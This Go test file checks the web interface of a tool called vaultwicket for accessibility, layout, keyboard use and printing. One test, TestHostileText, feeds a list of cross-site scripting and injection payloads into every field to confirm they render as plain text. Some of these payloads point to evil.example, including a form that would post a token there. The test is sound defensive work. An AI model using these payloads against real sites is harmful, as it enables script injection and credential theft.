package ui

import (
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/vaultwicket/vaultwicket/gateway/audit"
	"github.com/vaultwicket/vaultwicket/gateway/consent"
	"github.com/vaultwicket/vaultwicket/tests/assert"
	"github.com/vaultwicket/vaultwicket/tests/harness"
	"github.com/vaultwicket/vaultwicket/tests/require"
	"github.com/vaultwicket/vaultwicket/tests/testenv"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"
)

// axe is the file axe.min.js of the package axe-core, "" for none.
var axe = flag.String("axe", os.Getenv("AXE"), "axe.min.js of axe-core, which checks accessibility")

// every has axe look at every width, which takes twice as long.
var every = flag.Bool("every", false, "check accessibility at every width")

// finding is what axe has found.
type finding struct {
	ID    string
	Nodes []struct {
		Target         []any
		FailureSummary string
	}
}

// Every view in light and dark, wide and on the narrowest phone: nothing is wider than the
// window, and axe finds nothing.
func TestEveryViewIsAccessible(t *testing.T) {
	w := begin(t, nil)
	w.lively()
	gone := consent.StoredQuestion{Session: "1-gone", Vault: "Notes", Command: "delete", Text: "x",
		Lines: []consent.Line{{Text: "x"}}, Digest: consent.Digest{1}}
	if _, err := consent.OpenStore(consent.Folder(w.Home+"/.local/state/vaultwicket"), time.Now).Ask(gone); err != nil {
		t.Fatal(err)
	}
	w.Must("pause")
	b := w.open()
	source := ""
	if *axe != "" {
		text := require.Value(os.ReadFile(*axe))(t)
		source = string(text)
	}
	checked := 0
	paths := []string{"", "agents", "review", "activity", "approvals", "changes", w.changePath(),
		w.changePath() + "&as=rendered", "policy", "policy/try?command=delete&params=path%3DBread.md", "policy/access",
		"policy/access?path=Bread.md", "health", "settings", w.callOf("append"), "missing"}
	looks := []look{{360, "light"}, {1200, "dark"}, {320, "dark"}, {2000, "light"}}
	if testing.Short() {
		looks = looks[:1]
	}
	for _, look := range looks {
		b.run(chromedp.EmulateViewport(look.width, 800), emulate("prefers-color-scheme="+look.scheme))
		for _, path := range paths {
			b.visit(path)
			value[bool](b, `document.querySelectorAll("details").forEach(d => d.open = true), true`)
			where := fmt.Sprintf("%q at %d, %s", path, look.width, look.scheme)
			if over := value[float64](b, overflow); over > 0 {
				t.Errorf("%s is %v pixels too wide: %s", where, over, value[string](b, widest))
			}
			if source != "" && (look.width == 360 || look.width == 1200 || *every) {
				b.check(where, source)
				checked++
			}
		}
	}
	if source == "" {
		t.Skip("axe-core is not given: only the widths were checked")
	}
	t.Logf("axe checked %d views", checked)
}

// A busy day with odd names of clients and notes, in both browsers and both themes: nothing is wider than the window, and
// axe finds nothing.
func TestABusyDayIsAccessible(t *testing.T) {
	w := begin(t, func(r *harness.Program) {
		for path, text := range harness.BusyNotes() {
			r.Write(path, text)
		}
	})
	w.BusyDay(testenv.Count(4, 80), testenv.Count(2, 30))
	t.Run("Chromium", func(t *testing.T) {
		b := w.open()
		w.busyViews(t, b, func(width int64, scheme string) {
			b.run(chromedp.EmulateViewport(width, 800), emulate("prefers-color-scheme="+scheme))
		}, look{360, "light"}, look{1280, "dark"})
		if *pictures != "" {
			w.take(b, "busy-", []place{{"overview", ""}, {"agents", "agents"}, {"activity", "activity?period=all"},
				{"refused", "activity?outcome=denied"}, {"approvals", "approvals"}, {"changes", "changes"}})
		}
	})
	for _, scheme := range []string{"light", "dark"} {
		t.Run("Firefox, "+scheme, func(t *testing.T) {
			w.link, w.process = w.StartPage() // the link before was used
			f := w.openFox(scheme)
			w.busyViews(t, f, func(width int64, _ string) { f.resize(width) }, look{360, scheme}, look{1280, scheme})
		})
	}
}

// busyViews looks at the views of a busy day in a browser.
func (w *world) busyViews(t *testing.T, b browser, show func(width int64, scheme string), looks ...look) {
	t.Helper()
	source := ""
	if *axe != "" {
		source = string(require.Value(os.ReadFile(*axe))(t))
	}
	for _, look := range looks {
		show(look.width, look.scheme)
		for _, path := range []string{"", "agents", "review", "activity?period=all", "activity?outcome=denied",
			"approvals", "changes", w.changePath(), w.callOf("backlinks")} {
			b.visit(path)
			where := fmt.Sprintf("%q at %d, %s", path, look.width, look.scheme)
			if over, stick := b.over(); over > 0 {
				t.Errorf("%s is %v pixels too wide: %s", where, over, stick)
			}
			if source != "" {
				b.check(where, source)
			}
		}
	}
}

// Between the narrowest window with tables and the widest with cards nothing is wider than
// the window either.
func TestNoViewIsWiderThanTheWindow(t *testing.T) {
	w := begin(t, nil)
	w.lively()
	b := w.open()
	widths := []int64{360}
	for width := int64(730); width <= 930; width += 10 {
		widths = append(widths, width)
	}
	for _, path := range []string{"", "agents", "review", "activity", "approvals", "changes", w.changePath(),
		w.changePath() + "&as=rendered", "policy", "policy/try?command=delete&params=path%3DBread.md",
		"policy/access?path=Bread.md", "health", "settings", "missing"} {
		b.visit(path)
		value[bool](b, `document.querySelectorAll("details").forEach(d => d.open = true), true`)
		for _, width := range widths {
			b.run(chromedp.EmulateViewport(width, 800))
			if over := value[float64](b, overflow); over > 0 {
				t.Errorf("%q at %d is %v pixels too wide: %s", path, width, over, value[string](b, widest))
			}
		}
	}
}

// look is a window and what its user prefers.
type look struct {
	width  int64
	scheme string
}

// widest names the elements that stick out.
const widest = `[...document.querySelectorAll("main *, header *")].filter(e => e.getBoundingClientRect().right > innerWidth + 1 && !e.closest(".scroll, .diff, .hidden")).slice(0, 5).map(e => e.tagName + "." + e.className + " " + e.getBoundingClientRect().right).join(", ")`

// onAPhone looks at a page outside of the views on a phone, in both themes: nothing is wider than the window, axe finds
// nothing, and some buttons are in view without scrolling. It takes a picture where these are wanted.
func (b *tab) onAPhone(name string, inView ...string) {
	b.w.t.Helper()
	for _, scheme := range []string{"dark", "light"} {
		b.run(chromedp.EmulateViewport(360, 640), emulate("prefers-color-scheme="+scheme))
		where := fmt.Sprintf("%s on a phone, %s", name, scheme)
		over, stick := b.over()
		assert.Equal(b.w.t, over, 0, "%s: pixels too wide: %s", where, stick)
		for _, selector := range inView {
			isSeen := fmt.Sprintf(`(box => box.top >= 0 && box.bottom <= innerHeight)(document.querySelector(%q).getBoundingClientRect())`, selector)
			assert.That(b.w.t, value[bool](b, isSeen), "%s: %s is not in view", where, selector)
		}
		if *axe != "" {
			b.check(where, string(require.Value(os.ReadFile(*axe))(b.w.t)))
		}
		if *pictures != "" {
			require.NoError(b.w.t, os.MkdirAll(*pictures, 0o755))
			image := get(b, chromedp.CaptureScreenshot())
			require.NoError(b.w.t, os.WriteFile(filepath.Join(*pictures, name+"-phone-"+scheme+".png"), image, 0o644))
		}
	}
}

// over returns how many pixels the view is too wide, and what sticks out.
func (b *tab) over() (pixels float64, stick string) {
	pixels = value[float64](b, overflow)
	if pixels > 0 {
		stick = value[string](b, widest)
	}
	return pixels, stick
}

// overflow is how much wider than the window the view is.
const overflow = `document.documentElement.scrollWidth - document.documentElement.clientWidth`

// violations is what axe finds.
const violations = `axe.run(document, { runOnly: ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"], rules: { "target-size": { enabled: true } } }).then(r => r.violations)`

// check fails for whatever axe finds in the view.
func (b *tab) check(where, source string) {
	b.w.t.Helper()
	value[bool](b, source+"; true")
	text := get(b, chromedp.Evaluate[string](violations+`.then(v => JSON.stringify(v))`, chromedp.EvalAwaitPromise))
	var found []finding
	require.NoError(b.w.t, json.Unmarshal([]byte(text), &found))
	for _, f := range found {
		b.w.t.Errorf("%s: %s in %d places: %v %s", where, f.ID, len(f.Nodes), f.Nodes[0].Target, f.Nodes[0].FailureSummary)
	}
}

// The views are complete without scripts, and forms work.
func TestWithoutJavaScript(t *testing.T) {
	w := begin(t, nil)
	client := w.lively()
	b := w.window()
	b.run(scripts(false))
	b.base = w.link[:strings.Index(w.link, "open/")]
	b.run(chromedp.Navigate(w.link))
	b.until("the first view", `document.querySelector("#overview-changed li")`)
	b.visit("approvals")
	b.run(chromedp.Click(chromedp.CSS("#questions .yes")))
	b.until("approved", `document.querySelector(".note")`)
	got := client.Do(harness.Calling("delete", "path=Bread.md"))
	assert.That(t, got.OK, "the approved call: %+v", got)
	b.visit("activity")
	b.run(chromedp.SendKeys(chromedp.CSS("input[name=q]"), "search"+kb.Enter))
	b.until("calls of one command",
		`[...document.querySelectorAll("#activity-calls td[data-label=Call]")].length === 1 && document.querySelector("#activity-calls details li + li + li")`)
	b.visit("health")
	b.until("findings", `document.querySelector(".findings li")`)
}

func TestFilters(t *testing.T) {
	w := begin(t, nil)
	w.lively()
	b := w.open()
	b.visit("activity")
	rows := `[...document.querySelectorAll("#activity-calls tbody tr")].reduce((n, row) => n + Math.max(1, row.querySelectorAll("details li").length), 0)`
	b.until("all calls", rows+` === 11`)
	for _, choice := range []struct {
		name, value string
		want        int
	}{{"outcome", "failed", 1}, {"command", "search", 3}, {"who", "t", 11}, {"vault", "Notes", 11}} {
		b.visit("activity")
		value[bool](b, fmt.Sprintf(`document.querySelector("select[name=%s]").value = %q, true`, choice.name, choice.value))
		b.run(chromedp.Click(chromedp.CSS("main .filters button")))
		b.until("a chip", `document.querySelectorAll("main a.chip").length === 1`)
		b.until(choice.name, fmt.Sprintf(`location.search.includes(%q) && %s === %d`, choice.name+"="+choice.value, rows, choice.want))
	}
	b.visit("activity")
	b.run(chromedp.Click(chromedp.CSS("input[name=changes]")), chromedp.Click(chromedp.CSS("main .filters button")))
	b.until("changes only", rows+` === 2`)
}

// The keyboard reaches everything: skip link, views, approve.
func TestKeyboardOnly(t *testing.T) {
	w := begin(t, nil)
	client := w.Stdio(false, "")
	client.Do(harness.Calling("delete", "path=Bread.md"))
	b := w.open()
	focus := `document.activeElement.className + "|" + document.activeElement.innerText`
	b.run(chromedp.KeyEvent(kb.Tab))
	if got := value[string](b, focus); got != "skip|Skip to content" {
		t.Errorf("the first stop is %q", got)
	}
	for range 20 { // to the link of the approvals
		if strings.HasPrefix(value[string](b, focus), "|Approvals") {
			break
		}
		b.run(chromedp.KeyEvent(kb.Tab))
	}
	if got := value[string](b, `getComputedStyle(document.activeElement).outlineStyle`); got != "solid" {
		t.Errorf("the focus is shown as %q", got)
	}
	b.run(chromedp.KeyEvent(kb.Enter))
	b.until("the approvals", `location.pathname.endsWith("/approvals") && document.querySelector("#questions article")`)
	for range 30 {
		if strings.HasPrefix(value[string](b, focus), "yes|Approve") {
			break
		}
		b.run(chromedp.KeyEvent(kb.Tab))
	}
	b.run(chromedp.KeyEvent(kb.Enter))
	b.until("approved", `document.querySelector(".note")`)
	got := client.Do(harness.Calling("delete", "path=Bread.md"))
	assert.That(t, got.OK, "the approved call: %+v", got)
}

// A link that was used leads a browser that has the page open to it, from wherever it is
// opened.
func TestALinkThatWasUsed(t *testing.T) {
	w := begin(t, nil)
	mail := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, _ *http.Request) {
		fmt.Fprintf(rw, `<!doctype html><title>Mail</title><link rel="icon" href="data:,"><a href="%s">the link</a>`, w.link)
	}))
	t.Cleanup(mail.Close)
	b := w.window()
	overview := `document.querySelector("h1")?.innerText === "Overview"`
	for range 2 {
		b.run(chromedp.Navigate(w.link))
		b.until("the overview", overview)
	}
	b.run(chromedp.Navigate(strings.Replace(mail.URL, "127.0.0.1", "localhost", 1))) // another site
	b.run(chromedp.Click(chromedp.CSS("a")))
	b.until("the overview", overview)
}

// hostile are texts that would be elements, scripts, styles, addresses or templates.
var hostile = []string{
	`<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>"'--></title></textarea></select>`,
	`"><svg onload=window.hacked=1>`, `' onfocus='window.hacked=1' autofocus x='`, `javascript:window.hacked=1`,
	`</style><style>*{background:url(//evil.example/)}</style>`, `{{.Token}}${window.hacked=1}`,
	"\u202e\u2066<iframe src=//evil.example>",
	`<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>`,
	`<form action=//evil.example><input name=token>`,
	`![x](http://evil.example/x.png) [x](javascript:window.hacked=1) <a href="javascript:window.hacked=1">x</a>`,
	`<meta http-equiv=refresh content="0;url=//evil.example/">`,
}

// Hostile text in every field is text: no element, no script, no request, no message, and nothing
// that the policy of the page had to stop.
func TestHostileText(t *testing.T) {
	const named = `<img src=x onerror=window.hacked=1>.md`
	w := begin(t, func(r *harness.Program) { r.Write(named, strings.Join(hostile, "\n\n")+"\n") })
	state := w.Home + "/.local/state/vaultwicket"
	client := w.Stdio(false, "")
	client.Do(harness.Calling("append", "path="+named, "content="+strings.Join(hostile, "\n")))
	client.Do(harness.Calling("delete", "path="+named))
	logs := audit.OpenLogs(state)
	paths := []string{"", "agents", "review", "activity", w.callOf("append"), "approvals", "changes", w.changePath(),
		w.changePath() + "&as=rendered", "policy/access", "policy/try", "settings", "health"}
	for i, evil := range hostile {
		line := audit.Line{Kind: "decision", Decision: "deny", Call: fmt.Sprintf("s-%d", i+1), Session: "s",
			Agent: evil, Client: evil, Surface: "stdio", Vault: evil, Command: evil, Effect: evil, Rule: evil,
			Code: evil, Backend: evil, By: evil, Change: evil, Note: logs.Digest(named)}
		require.NoError(t, logs.WriteLasting(line, audit.Buffered))
		q := consent.StoredQuestion{Session: "s", Client: strings.Trim(evil, "\u202e\u2066"), Vault: "Notes",
			Command: strings.Trim(evil, "\u202e\u2066"), Text: "x",
			Lines: []consent.Line{{Text: strings.Trim(evil, "\u202e\u2066")},
				{Kind: consent.Added, Text: strings.Trim(evil, "\u202e\u2066")}}, Digest: consent.Digest{byte(i + 1)}}
		if i < 8 { // a session has no more questions
			if _, err := consent.OpenStore(consent.Folder(state), time.Now).Ask(q); err != nil {
				t.Fatal(err)
			}
		}
		escaped := url.QueryEscape(evil)
		paths = append(paths, fmt.Sprintf("activity/call/s-%d", i+1),
			"activity?who="+escaped+"&q="+escaped+"&vault="+escaped+"&hour="+escaped,
			"policy/try?command="+escaped+"&params="+escaped, "changes?vault=Notes&note="+escaped+"&caller="+escaped)
	}
	b := w.open()
	b.before(`window.reports = []; addEventListener("securitypolicyviolation", e => reports.push(e.violatedDirective + " " + e.blockedURI), true)`)
	for _, path := range paths {
		b.visit(path)
		b.until("the stream", `document.getElementById("live").classList.contains("on")`)
		value[bool](b, `document.querySelectorAll("details").forEach(d => d.open = true), true`)
		if value[bool](b,
			`Boolean(window.hacked) || document.images.length > 0 || document.scripts.length !== 2 || document.querySelectorAll("iframe, base, style, main a[href^='javascript'], form:not([action*='`+
				b.base[strings.Index(b.base[8:], "/")+8:]+`'])").length > 0`) {
			t.Errorf("%q has elements of others: %s", path, value[string](b, `document.body.innerHTML`))
		}
		reports := value[[]string](b, `reports`)
		assert.That(t, len(reports) == 0, "%q: the policy stopped %q", path, reports)
	}
	t.Logf("%d views, no report", len(paths))
	assert.That(t, strings.Contains(b.w.Read(named), "hacked"), "the note was not written")
}

// On paper a difference is whole, on white, and without what is pressed.
func TestPrint(t *testing.T) {
	w := begin(t, func(r *harness.Program) { r.Write("Long.md", strings.Repeat("line\n", 200)) })
	w.Stdio(false, "").Do(harness.Calling("create", "path=Other.md", "content="+strings.Repeat("row\n", 200)))
	b := w.open()
	b.run(emulate("prefers-color-scheme=dark"))
	b.visit(w.changePath())
	b.run(chromedp.Func(func(ctx context.Context, t *chromedp.Target) error {
		_, err := cdp.Call(ctx, t, emulation.SetEmulatedMedia,
			emulation.SetEmulatedMediaParams{Media: "print",
				Features: []*emulation.MediaFeature{{Name: "prefers-color-scheme", Value: "dark"}}})
		return err
	}))
	b.until("a page on white", `getComputedStyle(document.documentElement).backgroundColor === "rgb(255, 255, 255)"`)
	if got := value[string](b,
		`[...document.querySelectorAll(".diff")].map(d => getComputedStyle(d).maxHeight + " " + (d.getBoundingClientRect().height >= 16 * d.querySelectorAll(".row").length)).join()`); got != "none true,none true" {
		t.Errorf("differences are %s", got)
	}
	shown := value[int](b, `[...document.querySelectorAll("header, button, .tabs")].filter(e => e.checkVisibility()).length`)
	assert.That(t, shown <= 0, "%d things to press are printed", shown)
}
